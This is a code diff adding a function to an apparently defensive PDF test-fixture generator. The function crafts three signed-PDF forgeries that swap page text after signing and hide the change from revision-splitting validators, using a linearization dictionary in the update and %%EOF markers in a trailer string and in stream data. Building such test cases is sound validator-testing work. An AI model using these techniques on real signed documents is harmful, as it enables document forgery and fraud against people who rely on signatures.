@@ -292,6 +292,34 @@ def form_filling():
     write(f"{OUT}/fieldmdp-locked-field-filled.pdf", fill(locked, b"Ke Gian"))
 
 
+def revision_boundary_bypasses(signed: bytes):
+    """Classes that fooled other validators' revision splitting (iText's
+    9.8.1.1 security release): an update that carries a linearization
+    dictionary (a validator that takes the file for a linearized original
+    reads the update as part of the signed revision), and `%%EOF` markers
+    inside an update's trailer or stream data (a validator that splits
+    revisions at `%%EOF` sees a revision end where none is). Each update
+    also replaces the page's text: none may hide it."""
+    evil = b"BT /F1 18 Tf 72 760 Td (Noi dung GIA sau khi ky) Tj ET\n"
+    content = b"<< /Length %d >>\nstream\n" % len(evil) + evil + b"\nendstream"
+    size = int(re.findall(rb"/Size (\d+)", signed)[-1])
+    lin = b"<< /Linearized 1 /L %d /H [ 0 0 ] /O 3 /E 0 /N 1 /T 0 >>" % (len(signed) + 400)
+    write(f"{OUT}/bypass-linearization-dict-in-update.pdf",
+          append_update(signed, {size: lin, 4: content}))
+    # %%EOF inside the trailer: a string value holding the marker.
+    data = append_update(signed, {4: content})
+    at = data.rindex(b"trailer\n<< /Size")
+    moved = data[:at] + b"trailer\n<< /Note (\n%%EOF\n) /Size" + data[at + len(b"trailer\n<< /Size"):]
+    x = moved.rindex(b"xref\n0 1")
+    moved = re.sub(rb"startxref\n\d+\n%%EOF\n$", b"startxref\n%d\n%%%%EOF\n" % x, moved)
+    write(f"{OUT}/bypass-eof-in-trailer.pdf", moved)
+    # %%EOF inside stream data: a content stream whose bytes hold the marker
+    # (as a content-stream comment, harmless to the page).
+    evil_eof = b"%%EOF\n" + evil
+    write(f"{OUT}/bypass-eof-in-stream.pdf", append_update(signed, {
+        4: b"<< /Length %d >>\nstream\n" % len(evil_eof) + evil_eof + b"\nendstream"}))
+
+
 def main():
     os.makedirs(OUT, exist_ok=True)
     signed = open(f"{PDF}/rsa-pkcs1.pdf", "rb").read()
@@ -302,6 +330,7 @@ def main():
     certified_attacks()
     form_filling()
     write(f"{OUT}/shadow-dangling-reference-filled-as-dss.pdf", dangling_reference())
+    revision_boundary_bypasses(signed)
 
 
 if __name__ == "__main__":
